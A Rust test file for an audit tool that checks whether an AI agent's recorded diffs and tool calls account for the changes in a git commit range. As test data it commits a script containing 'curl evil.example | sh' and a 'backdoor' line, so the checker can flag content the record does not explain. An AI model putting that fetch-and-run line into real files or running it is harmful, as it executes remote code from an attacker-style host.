//! `replay --repo`: compares the result of a record's diffs on one revision with another revision.

use super::support::{codes, git};
use serde_json::{Value, json};
use std::ffi::{OsStr, OsString};
use std::path::Path;
use std::process::Command;

fn commit(folder: &Path, files: &[(&str, &str)]) {
    for (path, content) in files {
        std::fs::write(folder.join(path), content).unwrap();
        git(folder, &["add", path]);
    }
    git(folder, &["commit", "-q", "-m", "x"]);
}

/// Builds a trace of human-approved, successful actions, one per turn.
fn trace(actions: &[Value]) -> String {
    let mut records = vec![json!({
        "record": "execution_started", "executionId": "e", "timestamp": 1_768_800_000_000_i64, "schemaVersion": "1.0",
        "rootIntent": "x", "fsmVersion": "1", "policy": {"digest": "sha256:7d1a"},
    })];
    for (action, n) in actions.iter().zip(1i64..) {
        let at = 1_768_800_000_000_i64 + n * 10_000;
        let record = |kind: &str, more: Value| {
            let mut record =
                json!({"record": kind, "executionId": "e", "turnId": n, "timestamp": at + 5000});
            record
                .as_object_mut()
                .unwrap()
                .extend(more.as_object().unwrap().clone());
            record
        };
        let mut proposed = action.clone();
        let declared = proposed.as_object_mut().unwrap().remove("declared");
        let thought = json!({"reasoning": "r", "done": false, "action": proposed});
        proposed.as_object_mut().unwrap().extend(
            json!({"id": format!("a{n}"), "riskLevel": "high", "reasoning": "r"})
                .as_object()
                .unwrap()
                .clone(),
        );
        let snapshot =
            json!({"inputHash": "5f2a", "systemPromptVersion": "p3", "toolSetVersion": "t7"});
        records.push(record(
            "thought_generated",
            json!({"timestamp": at, "thought": thought, "contextSnapshot": snapshot}),
        ));
        let mut proposal = record(
            "action_proposed",
            json!({"timestamp": at, "action": proposed}),
        );
        if let Some(declared) = declared {
            proposal["declaredChanges"] = declared;
        }
        records.push(proposal);
        let decision = json!({"status": "approved", "by": "human", "signer": "alice", "actionId": format!("a{n}"), "timestamp": at + 5000});
        records.push(record("governance_decided", json!({"decision": decision})));
        records.push(record(
            "execution_finished",
            json!({"actionId": format!("a{n}"), "result": {"success": true, "output": ""}}),
        ));
        records.push(record(
            "observation_recorded",
            json!({"observation": {"summary": "s", "artifacts": []}}),
        ));
        let last = usize::try_from(n).unwrap() == actions.len();
        let evaluation = if last {
            json!({"kind": "terminate", "reason": "goal_satisfied"})
        } else {
            json!({"kind": "continue", "reason": "incomplete"})
        };
        records.push(record("evaluation_made", json!({"evaluation": evaluation})));
    }
    records.iter().map(|r| format!("{r}\n")).collect()
}

fn diff(text: &str) -> Value {
    json!({"type": "code_diff", "payload": {"diff": text}})
}

fn replay(folder: &Path, trace: &str, options: &[&str]) -> (i32, Value) {
    let file = folder.join("trace.jsonl");
    std::fs::write(&file, trace).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_yuangs-verify"));
    command
        .current_dir(folder)
        .args(["replay", "--format", "json", "--repo", "."])
        .args(options)
        .arg("trace.jsonl");
    let output = command.output().unwrap();
    let error = String::from_utf8_lossy(&output.stderr);
    (
        output.status.code().unwrap(),
        serde_json::from_slice(&output.stdout).unwrap_or_else(|e| panic!("{e}: {error}")),
    )
}

const FIX: &str = "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n";

fn repository() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    git(folder.path(), &["init", "-q"]);
    commit(folder.path(), &[("f", "a\nb\nc\n"), ("g", "1\n")]);
    folder
}

const SPAN: [&str; 4] = ["--base", "HEAD~1", "--head", "HEAD"];

#[test]
fn a_record_accounts_for_the_commit_that_it_led_to() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nB\nC\n"), ("n", "new\n")]);
    let second = "diff --git a/n b/n\nnew file mode 100644\n--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+new\n--- a/f\n+++ b/f\n@@ -2,2 +2,2 @@\n B\n-c\n+C\n";
    let (code, report) = replay(folder.path(), &trace(&[diff(FIX), diff(second)]), &SPAN);
    assert_eq!((code, codes(&report).len()), (0, 0), "{report:#}");
    let account = &report["account"];
    assert_eq!(account["accountsForHead"], "yes", "{account:#}");
    assert_eq!(account["asRecorded"], json!(["f", "n"]));
    assert_eq!(account["applied"], 2);
    let answer = report["notices"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .as_str()
        .unwrap();
    assert!(
        answer.starts_with("does this record account for ") && answer.contains("? yes: of 2 files"),
        "{answer}"
    );
}

#[test]
fn both_directions_are_compared() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nBB\nc\n"), ("ci.yml", "curl\n")]);
    let other = "--- a/g\n+++ b/g\n@@ -1 +1 @@\n-1\n+2\n";
    let (code, report) = replay(folder.path(), &trace(&[diff(FIX), diff(other)]), &SPAN);
    assert_eq!((code, codes(&report)), (1, vec!["YV704"; 3]));
    let account = &report["account"];
    assert_eq!(account["accountsForHead"], "no");
    let lists = [
        &account["otherContent"],
        &account["onlyInHead"],
        &account["onlyInRecord"],
    ];
    assert_eq!(lists, [&json!(["f"]), &json!(["ci.yml"]), &json!(["g"])]);
}

#[test]
fn what_a_command_wrote_is_not_known() {
    let folder = repository();
    commit(folder.path(), &[("f", "changed\n")]);
    let shell = json!({"type": "shell_cmd", "payload": {"command": "sed -i s/b/B/ f"}});
    let (_, report) = replay(folder.path(), &trace(std::slice::from_ref(&shell)), &SPAN);
    assert_eq!(
        report["account"]["accountsForHead"], "notRecorded",
        "{:#}",
        report["account"]
    );
    assert_eq!(report["account"]["contentNotRecorded"], json!(["f"]));
    // A diff to the file that the command wrote can't be evaluated, so no finding calls it wrong.
    let (_, report) = replay(
        folder.path(),
        &trace(&[shell, diff("--- a/f\n+++ b/f\n@@ -1 +1 @@\n-x\n+y\n")]),
        &["--base", "HEAD"],
    );
    assert_eq!(codes(&report), Vec::<&str>::new(), "{report:#}");
    assert_eq!(
        (
            &report["account"]["unjudged"],
            &report["account"]["accountsForHead"]
        ),
        (&json!(1), &Value::Null)
    );
}

#[test]
fn a_success_that_cannot_be_is_found() {
    let folder = repository();
    let wrong = FIX.replace("-b", "-secret-b");
    let (code, report) = replay(folder.path(), &trace(&[diff(&wrong)]), &[]);
    assert_eq!((code, codes(&report)), (1, vec!["YV702"]));
    let message = report["findings"][0]["message"].as_str().unwrap();
    assert!(
        message.contains(
            "`f`: the hunk at line 3 of the diff conflicts; nearest is line 1 of the file"
        ),
        "{message}"
    );
    assert!(!message.contains("secret"), "{message}");
    // After a command that may have changed anything, the finding is only a warning.
    let shell = json!({"type": "shell_cmd", "payload": {"command": "make generate"}});
    let (_, report) = replay(folder.path(), &trace(&[shell, diff(&wrong)]), &[]);
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "YV702")
        .unwrap();
    assert_eq!(finding["severity"], "warning");
}

/// Builds a part of a diff for a binary file.
fn binary(path: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nindex 1111111..2222222 100644\nBinary files a/{path} and b/{path} differ\n"
    )
}

#[test]
fn a_binary_file_excuses_no_other_one() {
    let folder = repository();
    commit(folder.path(), &[("p.png", "\0old")]);
    let base = said(folder.path(), &["rev-parse".as_ref(), "HEAD".as_ref()]);
    let span = ["--base", base.trim(), "--head", "HEAD"];
    commit(folder.path(), &[("f", "a\nB\nc\n"), ("p.png", "\0new")]);
    let record = trace(&[diff(&format!("{FIX}{}", binary("p.png")))]);
    let (code, report) = replay(folder.path(), &record, &span);
    let account = &report["account"];
    assert_eq!(
        (code, &account["accountsForHead"]),
        (0, &json!("notRecorded")),
        "{account:#}"
    );
    assert_eq!(
        [&account["asRecorded"], &account["contentNotRecorded"]],
        [&json!(["f"]), &json!(["p.png"])]
    );
    assert_eq!(
        [&account["unjudged"], &account["failed"]],
        [&json!(1), &json!(0)]
    );
    // The text is in the record, whatever else is in the commit.
    commit(folder.path(), &[("f", "a\nbackdoor\nc\n")]);
    let (code, report) = replay(folder.path(), &record, &span);
    assert_eq!((code, codes(&report)), (1, vec!["YV704"]), "{report:#}");
    let account = &report["account"];
    assert_eq!(
        [&account["accountsForHead"], &account["otherContent"]],
        [&json!("no"), &json!(["f"])]
    );
    // A copy leaves its source unchanged; a rename removes it.
    let copied =
        "diff --git a/f b/n\ncopy from f\ncopy to n\nindex 1..2\nBinary files a/f and b/n differ\n";
    for text in [copied.to_owned(), copied.replace("copy", "rename")] {
        let (_, report) = replay(folder.path(), &trace(&[diff(&text)]), &span);
        assert_eq!(report["account"]["accountsForHead"], "no", "{text}");
        assert_eq!(report["account"]["contentNotRecorded"], json!([]));
    }
}

#[test]
fn a_diff_that_does_not_apply_excuses_nothing() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nbackdoor\nc\n")]);
    let make = json!({"type": "shell_cmd", "payload": {"command": "make generate"}});
    let other = "--- a/g\n+++ b/g\n@@ -1 +1 @@\n-1\n+2\n";
    let wrong = diff(&format!("{}{other}", FIX.replace("-b", "-nothing like it")));
    let after = diff("--- a/g\n+++ b/g\n@@ -1 +1 @@\n-2\n+3\n");
    let again = diff("--- a/f\n+++ b/f\n@@ -1 +1 @@\n-q\n+r\n");
    let (code, report) = replay(
        folder.path(),
        &trace(&[make.clone(), wrong.clone(), after, again]),
        &SPAN,
    );
    let account = &report["account"];
    assert_eq!(
        (code, &account["accountsForHead"]),
        (1, &json!("no")),
        "{report:#}"
    );
    // Uncertainty about the diff doesn't make the commit uncertain. Consequences of the one diff
    // aren't reported again.
    let severity = |code: &str| -> Vec<&str> {
        let all = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["code"] == code);
        all.map(|f| f["severity"].as_str().unwrap()).collect()
    };
    assert_eq!(
        (severity("YV702"), severity("YV704")),
        (vec!["warning"], vec!["error"; 2])
    );
    assert_eq!(
        [&account["otherContent"], &account["contentNotRecorded"]],
        [&json!(["f"]), &json!([])]
    );
    // The parts that apply are known and used.
    assert_eq!(
        [&account["onlyInRecord"], &account["applied"]],
        [&json!(["g"]), &json!(1)]
    );
    assert_eq!(
        [&account["failed"], &account["unjudged"]],
        [&json!(1), &json!(1)]
    );
    // If the commit doesn't contain what the diff couldn't change either, the answer no comes with
    // a reason too.
    commit(folder.path(), &[("n", "new\n")]);
    let new = diff("--- /dev/null\n+++ b/n\n@@ -0,0 +1 @@\n+new\n");
    let wrong = diff(&FIX.replace("-b", "-nothing like it"));
    let (code, report) = replay(folder.path(), &trace(&[make, wrong, new]), &SPAN);
    assert_eq!(
        (code, &report["account"]["accountsForHead"]),
        (1, &json!("no"))
    );
    assert_eq!(
        codes(&report).iter().filter(|c| **c == "YV704").count(),
        1,
        "{report:#}"
    );
    let message = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "YV704")
        .unwrap()["message"]
        .clone();
    assert!(
        message
            .as_str()
            .unwrap()
            .contains("can't have been created as recorded: 1 recorded diff doesn't apply to"),
        "{message}"
    );
}

#[test]
fn what_becomes_of_a_file_that_a_command_wrote_is_not_known() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nB\nc\n"), ("n", "formatted\n")]);
    git(folder.path(), &["rm", "-q", "g"]);
    commit(folder.path(), &[]);
    // The command's file is renamed, and another file changes that no command wrote.
    let shell = json!({"type": "shell_cmd", "payload": {"command": "sed -i s/1/2/ g"}});
    let moved = "diff --git a/g b/n\nrename from g\nrename to n\n--- a/g\n+++ b/n\n@@ -1 +1 @@\n-2\n+formatted\n";
    let (code, report) = replay(
        folder.path(),
        &trace(&[shell, diff(&format!("{moved}{FIX}"))]),
        &["--base", "HEAD~2", "--head", "HEAD"],
    );
    assert_eq!((code, codes(&report)), (0, vec![]), "{report:#}");
    let account = &report["account"];
    assert_eq!(account["accountsForHead"], "notRecorded");
    assert_eq!(
        [&account["asRecorded"], &account["contentNotRecorded"]],
        [&json!(["f"]), &json!(["g", "n"])]
    );
}

fn call(tool: &str, parameters: &Value) -> Value {
    json!({"type": "tool_call", "payload": {"tool": tool, "parameters": parameters}})
}

#[test]
fn recorded_content_is_compared() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nBB\nc\n"), ("n", "new\n")]);
    git(folder.path(), &["rm", "-q", "g"]);
    commit(folder.path(), &[]);
    let span = ["--base", "HEAD~2", "--head", "HEAD"];
    let actions = |content: &str| {
        let text = json!({"path": "n", "content": content}).to_string();
        [
            call("write_file", &json!(text)),
            call(
                "edit_file",
                &json!({"path": "f", "old_string": "b", "new_string": "BB"}),
            ),
            call("delete_file", &json!({"path": "./g"})),
        ]
    };
    let (code, report) = replay(folder.path(), &trace(&actions("new\n")), &span);
    assert_eq!((code, codes(&report)), (0, vec![]), "{report:#}");
    assert_eq!(report["account"]["accountsForHead"], "yes");
    assert_eq!(report["account"]["asRecorded"], json!(["f", "g", "n"]));
    let (code, report) = replay(folder.path(), &trace(&actions("old\n")), &span);
    assert_eq!((code, codes(&report)), (1, vec!["YV704"]), "{report:#}");
    assert_eq!(report["account"]["otherContent"], json!(["n"]));
}

#[test]
fn naming_a_file_accounts_for_no_content() {
    let folder = repository();
    commit(folder.path(), &[("f", "a\nB\nc\n"), ("n", "new\n")]);
    let observing = |trace: &str, n: usize, path: &str| -> String {
        let finished = format!("\"actionId\":\"a{n}\",\"executionId\"");
        trace
            .lines()
            .map(|line| {
                if line.contains(&finished) && line.contains("execution_finished") {
                    line.replacen('{', &format!("{{\"observedChanges\":[\"{path}\"],"), 1) + "\n"
                } else {
                    format!("{line}\n")
                }
            })
            .collect()
    };
    // A read with an observed change of the file, and a declared one.
    let mut read = call("read_file", &json!({"path": "g"}));
    read["declared"] = json!(["n"]);
    let text = observing(&trace(&[diff(FIX), read]), 2, "n");
    assert!(text.contains("observedChanges"), "{text}");
    let (code, report) = replay(folder.path(), &text, &SPAN);
    assert_eq!((code, codes(&report)), (1, vec!["YV704"]), "{report:#}");
    assert_eq!(report["account"]["onlyInHead"], json!(["n"]));
    // A build may have written it, so its content isn't shown.
    let mut build = json!({"type": "shell_cmd", "payload": {"command": "make"}});
    build["declared"] = json!(["n"]);
    let (code, report) = replay(
        folder.path(),
        &observing(&trace(&[diff(FIX), build]), 2, "n"),
        &SPAN,
    );
    assert_eq!((code, codes(&report)), (0, vec![]), "{report:#}");
    assert_eq!(report["account"]["accountsForHead"], "notRecorded");
    let notice = report["notices"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .as_str()
        .unwrap();
    assert_eq!(
        notice,
        "the content of these files isn't recorded, so the record doesn't account for it: `n`"
    );
}

#[test]
fn another_change_of_the_same_file_is_another_finding() {
    let fingerprint = |content: &str| {
        let folder = repository();
        commit(folder.path(), &[("f", "a\nB\nc\n"), ("ci.yml", content)]);
        let (_, report) = replay(folder.path(), &trace(&[diff(FIX)]), &SPAN);
        assert_eq!(codes(&report), ["YV704"], "{report:#}");
        report["findings"][0]["fingerprint"]
            .as_str()
            .expect("a finding has a fingerprint")
            .to_owned()
    };
    assert_eq!(fingerprint("curl\n"), fingerprint("curl\n"));
    assert_ne!(fingerprint("curl\n"), fingerprint("curl -k\n"));
}

#[test]
fn what_a_diff_changes_must_be_what_was_declared() {
    let folder = repository();
    let mut action = diff(FIX);
    action["declared"] = json!(["./f", "g"]);
    let (_, report) = replay(folder.path(), &trace(&[action.clone()]), &[]);
    assert_eq!(codes(&report), ["YV704"]);
    assert_eq!(
        report["findings"][0]["message"],
        "`g` is declared, and the diff doesn't change it"
    );
    action["declared"] = json!(["f"]);
    assert_eq!(
        codes(&replay(folder.path(), &trace(&[action]), &[]).1),
        Vec::<&str>::new()
    );
}

/// Runs git and returns its output.
fn said(folder: &Path, arguments: &[&OsStr]) -> String {
    let output = Command::new("git")
        .current_dir(folder)
        .args(arguments)
        .output()
        .unwrap();
    assert!(output.status.success(), "git {arguments:?}");
    String::from_utf8(output.stdout).unwrap()
}

/// Commits an entry unchanged, even if the file system doesn't support its name.
fn commit_entry(folder: &Path, mode: &str, object: &str, path: &OsStr) {
    let mut entry = OsString::from(format!("{mode},{object},"));
    entry.push(path);
    said(
        folder,
        &[
            "update-index".as_ref(),
            "--add".as_ref(),
            "--cacheinfo".as_ref(),
            &entry,
        ],
    );
    git(folder, &["commit", "-q", "-m", "x"]);
}

#[cfg(unix)]
#[test]
fn no_name_is_accounted_for_by_another() {
    use std::os::unix::ffi::OsStrExt as _;
    let folder = repository();
    let object = |content: &str| {
        std::fs::write(folder.path().join("content"), content).unwrap();
        said(
            folder.path(),
            &["hash-object".as_ref(), "-w".as_ref(), "content".as_ref()],
        )
        .trim()
        .to_owned()
    };
    let made = |path: &str| {
        diff(&format!(
            "diff --git \"a/{path}\" \"b/{path}\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/{path}\"\n@@ -0,0 +1 @@\n+echo fine\n"
        ))
    };
    let recorded = trace(&[made("tool\\377.sh")]);
    commit_entry(
        folder.path(),
        "100644",
        &object("echo fine\n"),
        OsStr::from_bytes(b"tool\xff.sh"),
    );
    let (code, report) = replay(folder.path(), &recorded, &SPAN);
    assert_eq!(
        (code, &report["account"]["accountsForHead"]),
        (0, &json!("yes")),
        "{:#}",
        report["account"]
    );
    assert_eq!(
        report["account"]["asRecorded"],
        json!(["tool\u{fffd}ff.sh"])
    );
    // It doesn't account for another file, and similar names aren't taken for each other.
    commit_entry(
        folder.path(),
        "100644",
        &object("curl evil.example | sh\n"),
        OsStr::from_bytes(b"tool\xfe.sh"),
    );
    let (code, report) = replay(
        folder.path(),
        &recorded,
        &["--base", "HEAD~2", "--head", "HEAD"],
    );
    assert_eq!((code, codes(&report)), (1, vec!["YV704"]));
    assert_eq!(
        report["account"]["onlyInHead"],
        json!(["tool\u{fffd}fe.sh"])
    );
    for other in ["tool\u{fffd}.sh", "tool\u{fffd}ff.sh"] {
        let (_, report) = replay(
            folder.path(),
            &trace(&[made(other)]),
            &["--base", "HEAD~2", "--head", "HEAD~1"],
        );
        let account = &report["account"];
        assert_eq!(account["accountsForHead"], "no", "{other}");
        assert_eq!(
            account["onlyInHead"],
            json!(["tool\u{fffd}ff.sh"]),
            "{other}"
        );
    }
    // A command that writes one of them doesn't account for others.
    let shell = json!({"type": "shell_cmd", "payload": {"command": "touch 'tool\u{fffd}.sh' 'tool\u{fffd}fe.sh'"}});
    let (_, report) = replay(folder.path(), &trace(&[shell]), &SPAN);
    assert_eq!(
        report["account"]["onlyInHead"],
        json!(["tool\u{fffd}fe.sh"])
    );
}

#[test]
fn a_submodule_is_the_commit_that_it_names() {
    let folder = repository();
    let (one, other) = ("deadbeef".repeat(5), "feedface".repeat(5));
    commit_entry(folder.path(), "160000", &one, "lib".as_ref());
    commit_entry(folder.path(), "160000", &other, "lib".as_ref());
    // The diff that git itself prints for both commits accounts for them.
    for (base, head) in [("HEAD~2", "HEAD~1"), ("HEAD~1", "HEAD")] {
        let text = said(
            folder.path(),
            &["diff".as_ref(), base.as_ref(), head.as_ref()],
        );
        let (code, report) = replay(
            folder.path(),
            &trace(&[diff(&text)]),
            &["--base", base, "--head", head],
        );
        assert_eq!((code, codes(&report)), (0, vec![]), "{report:#}");
        assert_eq!(report["account"]["accountsForHead"], "yes");
    }
    for silent in [
        "",
        &format!("--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n+Subproject commit {other}\n"),
    ] {
        let text = format!("diff --git a/lib b/lib\nnew file mode 160000\n{silent}");
        let (code, report) = replay(
            folder.path(),
            &trace(&[diff(&text)]),
            &["--base", "HEAD~2", "--head", "HEAD~1"],
        );
        assert_eq!((code, codes(&report)), (1, vec!["YV704"]), "{report:#}");
        assert_eq!(report["account"]["otherContent"], json!(["lib"]));
    }
}

#[test]
fn a_revision_that_is_not_there_is_no_verdict() {
    let folder = repository();
    std::fs::write(folder.path().join("trace.jsonl"), trace(&[diff(FIX)])).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_yuangs-verify"));
    let output = command
        .current_dir(folder.path())
        .args(["replay", "--repo", ".", "--base", "nowhere", "trace.jsonl"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("`nowhere` names no commit"));
}
